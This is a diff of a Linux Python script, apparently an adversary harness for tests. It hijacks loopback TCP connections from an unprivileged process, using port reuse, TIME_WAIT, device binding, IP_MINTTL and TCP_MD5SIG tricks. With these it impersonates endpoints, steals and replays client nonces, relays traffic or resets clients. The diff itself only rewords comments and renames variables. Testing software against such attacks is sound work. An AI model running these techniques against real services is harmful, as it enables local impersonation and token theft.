@@ -1,31 +1,31 @@
-"""A process without privileges that tries to become an end of a pair, or to stand between its ends. For Linux.
+"""An unprivileged process that tries to become an end of a pair, or to get between its ends. For Linux.
 
     attacker.py twin|late|early|heir|relay|reset 4|6 FIRST-PORT LAST-PORT
 
-It reads a line at a time. When it has acted, it answers how many clients it has met and served so far:
+It reads one command per line and acts. Then it prints how many clients it has met and served so far:
 
     prepare           before the victim binds a socket;
     before PORT HOST PORT
-                      before the victim's client connects: the listener's port, and where the client is bound;
-    after             when the client is on its way;
+                      before the victim's client connects: the listener's port, then the client's host and port;
+    after             when the client has started to connect;
     accepting         before the victim accepts a connection;
-    met               at any time, for the number alone.
+    met               at any time, only to get the number.
 
-What it rests on, all seen on Linux 6.18:
+It relies on these facts, all observed on Linux 6.18:
 
-- A packet goes to a connection before it goes to a listener, and to the newest of several connections. A socket at the
-  listener's port, on its way to the client's port, meets the client: both connect to each other.
-- A socket that is bound to a port of every address, and connects to another address, is in nobody's way at loopback.
-  connect(AF_UNSPEC) undoes that: it may then connect from the loopback address, whoever else is bound there.
-- A socket takes only packets from neighbours if IP_MINTTL is 255, and loopback's are not: it hears no refusal.
-- A socket that SO_BINDTODEVICE bound to "lo" may have the same addresses and ports as one that is not bound. Once it is
-  bound to another device, it hears nothing from loopback, and nobody there hears of its end.
-- A connection in TIME_WAIT hides the older ones of the same addresses and ports from a new one that asks for them, and
-  lets packets that open a connection through to the listener.
-- A socket with a TCP_MD5SIG key signs what it sends, and a socket without a key drops that.
-- A client that is reset still reports its port, although the system gives the port to whoever asks for it.
+- A packet goes to a connection rather than to a listener, and to the newest of several connections. If a socket at the
+  listener's port is connecting to the client's port, it meets the client: the two connect to each other.
+- A socket that is bound to a port at all addresses, and is connecting elsewhere, conflicts with no socket at loopback.
+  After connect(AF_UNSPEC) it can connect from the loopback address, even if another socket is bound there.
+- With IP_MINTTL 255 a socket ignores packets that are not from neighbours. Loopback's are not, so it sees no refusal.
+- A socket bound to the device "lo" by SO_BINDTODEVICE can have the same addresses and ports as a socket without a
+  device. Once it is bound to another device, it receives nothing from loopback, and nobody there notices its close.
+- A connection in TIME_WAIT hides older connections with the same addresses and ports from a new one that asks for them.
+  It lets packets that open a connection through to the listener.
+- A socket with a TCP_MD5SIG key signs the packets that it sends. A socket without a key drops signed packets.
+- A client that was reset still reports its port, although the system gives that port to any socket that asks for it.
 
-If the client is bound to all addresses, no other socket has its port, or is given it, as long as the client lives.
+If the client is bound to all addresses, no other socket has its port, or gets it, until the client is reset or closed.
 """
 
 import contextlib
@@ -100,39 +100,39 @@ def await_state(state, *socks):
 
 
 def half_close(sock, peer):
-    """Leave sock deaf and with nothing to say, so that closing it puts it into TIME_WAIT, with or without its peer."""
+    """Shut sock down and make it ignore its peer. Closing it then puts it into TIME_WAIT, with or without its peer."""
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, NO_RESET)
     sock.shutdown(socket.SHUT_WR)
     peer.send(b"acknowledges the end at once")
     await_state(FIN_WAIT2, sock)
-    sock.recv(100)  # what is not read would make closing it a reset
+    sock.recv(100)  # with unread data, closing it would be a reset
     hear(sock, NEIGHBOURS)
 
 
 def hide(sock):
-    """Let what loopback receives pass this socket by, and close it without a word."""
+    """Bind sock to another device, so that loopback's packets pass it by, and close it without telling its peer."""
     bind_to_device(sock, b"eth9")
     sock.close()
 
 
 def mute(sock):
-    """Have all that it sends from now on dropped."""
+    """Make the peer of sock drop all that sock sends from now on."""
     address = struct.pack("=HHI", FAMILY, 0, 0) if FAMILY == socket.AF_INET6 else struct.pack("=HH", FAMILY, 0)
     address += socket.inet_pton(FAMILY, LOOPBACK)
     sock.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, struct.pack("=128s2xH4x80s", address, 1, b"k"))
 
 
-def connect_in_front(sock, hides, port):
-    """Connect to the listener from the client's port, hidden from the client by a connection in TIME_WAIT."""
-    hides.close()
+def connect_in_front(sock, hider, port):
+    """Connect sock to the listener from the client's port. A connection in TIME_WAIT hides the client's connection."""
+    hider.close()
     undo_connect(sock)
     hear(sock, ANYBODY)
-    # Linux lets a connection in TIME_WAIT be replaced when it has been silent for a second.
+    # Linux lets a new connection replace one in TIME_WAIT that has been silent for a second.
     await_success(lambda: sock.connect_ex((LOOPBACK, port)) != errno.EADDRNOTAVAIL)
 
 
 def hold(port, number=1):
-    """Have a socket at this port that is on its way elsewhere; no two may go to the same port there."""
+    """Return a socket at this port that is connecting elsewhere. Two such sockets need different port numbers there."""
     sock = open_socket()
     hear(sock, NEIGHBOURS)
     sock.bind(("", port))
@@ -141,10 +141,10 @@ def hold(port, number=1):
 
 
 class Twin:
-    """Leaves the system two ports to give to a listener and a client, and connects to each of the two itself.
+    """An attacker that leaves the system two ports, for a listener and a client, and connects to both itself.
 
-    For a client that is not bound before it connects. The listener's peer then has the client's name, and the client's
-    peer has the listener's.
+    It attacks a client that is not bound before it connects. Then the listener's peer has the client's address and
+    port, and the client's peer has the listener's.
     """
 
     met = 0
@@ -152,23 +152,23 @@ class Twin:
     def __init__(self):
         listener, other = listen(), listen()
         self.port = listener.getsockname()[1]
-        self.hides = open_socket(blocking=True)
-        bind_to_device(self.hides, b"lo")
-        self.hides.connect((LOOPBACK, self.port))
-        self.client_port = self.hides.getsockname()[1]
+        self.hider = open_socket(blocking=True)
+        bind_to_device(self.hider, b"lo")
+        self.hider.connect((LOOPBACK, self.port))
+        self.client_port = self.hider.getsockname()[1]
         far, _ = listener.accept()
-        half_close(self.hides, far)
+        half_close(self.hider, far)
         far.close()
         listener.close()
         self.twin = open_socket()
         self.twin.bind(("", self.client_port))
         bind_to_device(self.twin, b"lo")
         self.twin.connect_ex(other.getsockname())
-        # When this is closed, Linux believes that only clients have the port, and gives it to the next client.
+        # When this is closed, Linux assumes that only clients use the port, and gives the port to the next client.
         last = open_socket()
         last.bind((ELSEWHERE, self.client_port))
         last.close()
-        self.meets = hold(self.port)
+        self.interceptor = hold(self.port)
         self.others = [other]
         for port in set(range(FIRST, LAST + 1)) - {self.port, self.client_port, other.getsockname()[1]}:
             self.others.append(open_socket())
@@ -178,40 +178,40 @@ class Twin:
         pass
 
     def before(self, *_):
-        undo_connect(self.meets)
-        self.meets.connect_ex((LOOPBACK, self.client_port))
-        hear(self.meets, ANYBODY)
+        undo_connect(self.interceptor)
+        self.interceptor.connect_ex((LOOPBACK, self.client_port))
+        hear(self.interceptor, ANYBODY)
 
     def accepting(self):
         pass
 
     def after(self):
-        hide(self.meets)
-        connect_in_front(self.twin, self.hides, self.port)
+        hide(self.interceptor)
+        connect_in_front(self.twin, self.hider, self.port)
 
 
 class InTheMiddle:
-    """Has sockets at each port that bind gives, and acts between the client's bind and its connect."""
+    """An attacker that has sockets at each port that bind() assigns. It acts between the client's bind and connect."""
 
     met = 0
     number = 0
 
     def __init__(self):
-        self.held = {port: [] for port in range(FIRST + 1, LAST + 1, 2)}  # Linux gives the others to connect
-        self.meets = None
+        self.held = {port: [] for port in range(FIRST + 1, LAST + 1, 2)}  # Linux assigns the others in connect()
+        self.interceptor = None
         self.used = []
 
     def prepare(self):
         for sock in self.used:
             sock.close()
-        self.meets = None
+        self.interceptor = None
         self.used = []
         for port, socks in self.held.items():
             try:
                 while len(socks) < 3:
                     self.number = self.number % 60000 + 1
                     socks.append(hold(port, self.number))
-            except OSError:  # the victim has it
+            except OSError:  # the victim has this port
                 pass
 
     def take(self, port):
@@ -222,30 +222,30 @@ class InTheMiddle:
 
     def before(self, port, client, device=None):
         self.address = LOOPBACK, port
-        self.meets = self.take(port)
+        self.interceptor = self.take(port)
         if device:
-            bind_to_device(self.meets, device)
-        # It must not hear that nobody listens at the client's port.
-        self.meets.connect_ex(client)
-        hear(self.meets, ANYBODY)
+            bind_to_device(self.interceptor, device)
+        # Nobody listens at the client's port. The socket ignores loopback until hear(), so it sees no refusal.
+        self.interceptor.connect_ex(client)
+        hear(self.interceptor, ANYBODY)
 
     def accepting(self):
         pass
 
     def after(self):
-        if self.meets and is_in_state(self.meets, ESTABLISHED):
-            self.meets.setblocking(True)
+        if self.interceptor and is_in_state(self.interceptor, ESTABLISHED):
+            self.interceptor.setblocking(True)
             threading.Thread(target=self.serve, daemon=True).start()
 
 
 class Reset(InTheMiddle):
     def serve(self):
         self.met += 1
-        self.meets.close()
+        self.interceptor.close()
 
 
 class Heir(InTheMiddle):
-    """Meets the client, reads its nonce, resets it, and carries the nonce to the listener from the client's port."""
+    """An attacker that meets the client, reads its nonce, resets it, and sends the nonce from the client's port."""
 
     def before(self, port, client):
         self.client_port = client[1]
@@ -255,14 +255,14 @@ class Heir(InTheMiddle):
         pass
 
     def accepting(self):
-        if not self.meets or not is_in_state(self.meets, ESTABLISHED):
+        if not self.interceptor or not is_in_state(self.interceptor, ESTABLISHED):
             return
         try:
-            nonce = self.meets.recv(16)
-        except BlockingIOError:  # it is not sent yet
+            nonce = self.interceptor.recv(16)
+        except BlockingIOError:  # the nonce has not arrived yet
             return
-        self.meets.close()
-        self.meets = None
+        self.interceptor.close()
+        self.interceptor = None
         heir = open_socket(blocking=True)
         self.used.append(heir)
         heir.bind((LOOPBACK, self.client_port))
@@ -277,7 +277,7 @@ class Relay(InTheMiddle):
         onward = open_socket(blocking=True)
         self.used.append(onward)
         onward.connect(self.address)
-        for ends in ((self.meets, onward), (onward, self.meets)):
+        for ends in ((self.interceptor, onward), (onward, self.interceptor)):
             threading.Thread(target=carry, args=ends, daemon=True).start()
 
 
@@ -293,20 +293,20 @@ def carry(source, sink):
 
 
 class Late(InTheMiddle):
-    """Meets the client, reads its nonce, and carries that to the listener from the client's own address and port."""
+    """An attacker that meets the client, reads its nonce, and sends it to the listener from the client's own port."""
 
     def before(self, port, client):
-        self.hides, self.twin = self.take(client[1]), self.take(client[1])
-        bind_to_device(self.hides, b"lo")
+        self.hider, self.twin = self.take(client[1]), self.take(client[1])
+        bind_to_device(self.hider, b"lo")
         bind_to_device(self.twin, b"lo")
         peer = self.take(port)
-        self.join(peer, self.hides, port, client[1])
-        half_close(self.hides, peer)
+        self.join(peer, self.hider, port, client[1])
+        half_close(self.hider, peer)
         hide(peer)
         InTheMiddle.before(self, port, client)
 
     def join(self, at_listeners, at_clients, port, client_port):
-        """Connect these two to each other, in the places of the listener and the client."""
+        """Connect these two to each other, from the port of the listener and the port of the client."""
         at_listeners.connect_ex((LOOPBACK, client_port))
         hear(at_listeners, ANYBODY)
         hear(at_clients, ANYBODY)
@@ -314,26 +314,26 @@ class Late(InTheMiddle):
         await_state(ESTABLISHED, at_listeners, at_clients)
 
     def serve(self):
-        nonce = self.meets.recv(16)
-        hide(self.meets)
-        connect_in_front(self.twin, self.hides, self.address[1])
+        nonce = self.interceptor.recv(16)
+        hide(self.interceptor)
+        connect_in_front(self.twin, self.hider, self.address[1])
         self.twin.setblocking(True)
         self.twin.sendall(nonce)
         self.met += 1
 
 
 class Early(Late):
-    """The same, but the listener gets the connection before the client sends the nonce."""
+    """An attacker like Late, but it connects to the listener before the client sends the nonce."""
 
     def before(self, port, client):
-        hides, lets_through, self.twin = self.take(port), self.take(port), self.take(client[1])
-        # In TIME_WAIT, one lets the twin through to the listener, and then the other hides the twin's connection from
-        # the socket that meets the client.
-        bind_to_device(hides, b"lo")
+        hider, lets_through, self.twin = self.take(port), self.take(port), self.take(client[1])
+        # In TIME_WAIT, lets_through lets the twin connect to the listener. Then hider, in TIME_WAIT, hides the twin's
+        # connection from the socket that meets the client.
+        bind_to_device(hider, b"lo")
         bind_to_device(self.twin, b"lo")
         peer = self.take(client[1])
-        self.join(hides, peer, port, client[1])
-        half_close(hides, peer)
+        self.join(hider, peer, port, client[1])
+        half_close(hider, peer)
         hide(peer)
         peer = self.take(client[1])
         self.join(lets_through, peer, port, client[1])
@@ -341,17 +341,17 @@ class Early(Late):
         lets_through.close()
         peer.shutdown(socket.SHUT_WR)
         await_state(CLOSED, peer)
-        time.sleep(0.002)  # what has the same timestamp, in milliseconds, is not let through
+        time.sleep(0.002)  # a packet with the same timestamp, in milliseconds, is not let through
         hear(self.twin, ANYBODY)
         self.twin.connect_ex((LOOPBACK, port))
         await_state(ESTABLISHED, self.twin)
-        hides.close()
+        hider.close()
         InTheMiddle.before(self, port, client, device=b"lo")
 
     def serve(self):
-        nonce = self.meets.recv(16)
-        mute(self.meets)
-        self.meets.close()
+        nonce = self.interceptor.recv(16)
+        mute(self.interceptor)
+        self.interceptor.close()
         self.twin.setblocking(True)
         self.twin.sendall(nonce)
         self.met += 1
@@ -368,7 +368,7 @@ def main():
             port, client_host, client_port = words
             try:
                 attacker.before(int(port), (client_host, int(client_port)))
-            except OSError as error:  # the system refuses it the client's port
+            except OSError as error:  # the system refuses to give it the client's port
                 assert error.errno == errno.EADDRINUSE
         elif command != "met":
             getattr(attacker, command)()
